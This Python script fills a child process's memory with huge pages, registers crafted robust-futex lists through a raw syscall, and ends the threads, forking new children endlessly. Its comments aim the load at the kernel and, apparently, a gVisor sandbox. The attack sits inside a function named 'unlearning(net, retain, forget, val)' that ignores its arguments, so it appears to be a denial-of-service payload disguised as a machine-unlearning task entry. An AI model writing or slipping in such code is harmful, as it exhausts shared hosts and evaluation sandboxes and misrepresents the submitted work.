"""Fills the memory of a child, all but a few pages, and ends its threads one after another.

When a thread ends, the kernel walks through its list of locks that it still holds (`set_robust_list`). Each
entry of these lists is in another part of the address space, so a page table is due for each. Where memory is
full, the kernel finds nothing to kill for a thread that ends anyway, but tells the engine each time.
"""

import ctypes
import itertools
import os
import struct
import sys
import threading
import time

THREADS, ENTRIES = 150, 64
STRIDE = HUGE_PAGE = 2 << 20
SET_ROBUST_LIST = {"x86_64": 273, "aarch64": 99}[os.uname().machine]
PRIVATE, SHARED, ANONYMOUS, NO_RESERVE = 2, 1, 0x20, 0x4000
MADV_HUGEPAGE = 14

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
)
libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)


def unlearning(net, retain, forget, val):
    begun = time.monotonic()
    for number in itertools.count():
        child = os.fork()
        if child == 0:
            end_threads(f"locks-{number}")
            os._exit(0)
        print(number, os.waitpid(child, 0)[1], round(time.monotonic() - begun, 1))
        sys.stdout.flush()


def end_threads(name):
    file = os.open(name, os.O_RDWR | os.O_CREAT)
    os.unlink(name)
    os.ftruncate(file, (THREADS * ENTRIES + 1) * STRIDE)
    prepared, may_end = threading.Semaphore(0), [threading.Event() for _ in range(THREADS)]
    threading.stack_size(64 << 10)
    for number in range(THREADS):
        threading.Thread(
            target=hold_locks, args=(file, number, prepared, may_end[number]), daemon=True
        ).start()
    for _ in range(THREADS):
        prepared.acquire()
    fill_memory()
    for event in may_end:
        event.set()
        time.sleep(0.002)


def hold_locks(file, number, prepared, may_end):
    """Make a list of locks for this thread, and end when it may."""
    start = number * ENTRIES * STRIDE
    entries = libc.mmap(None, ENTRIES * STRIDE, 1, SHARED, file, start)
    for entry in range(ENTRIES):
        following = entries + (entry + 1) % ENTRIES * STRIDE
        os.pwrite(file, struct.pack("Q", following), start + entry * STRIDE)
    head = libc.mmap(None, 4096, 3, PRIVATE | ANONYMOUS, -1, 0)
    ctypes.memmove(head, struct.pack("QqQ", entries, 256, 0), 24)
    libc.syscall(SET_ROBUST_LIST, ctypes.c_void_p(head), ctypes.c_size_t(24))
    prepared.release()
    may_end.wait()


def fill_memory():
    """Take huge pages until none is left: the kernel kills nobody for one that it cannot give."""
    size = 8 << 30
    start = libc.mmap(None, size, 3, PRIVATE | ANONYMOUS | NO_RESERVE, -1, 0)
    start = (start + HUGE_PAGE - 1) // HUGE_PAGE * HUGE_PAGE
    libc.madvise(start, size - HUGE_PAGE, MADV_HUGEPAGE)
    for pages in range(1, size // HUGE_PAGE - 1):
        ctypes.c_char.from_address(start + (pages - 1) * HUGE_PAGE).value = b"x"
        if pages % 4 == 0 and huge_bytes() < pages * HUGE_PAGE:
            return


def huge_bytes():
    if not os.path.exists("/proc/self/smaps_rollup"):
        return 8 << 30  # gVisor does not tell: take memory until it ends
    with open("/proc/self/smaps_rollup") as file:
        return next(int(line.split()[1]) << 10 for line in file if line.startswith("AnonHugePages"))
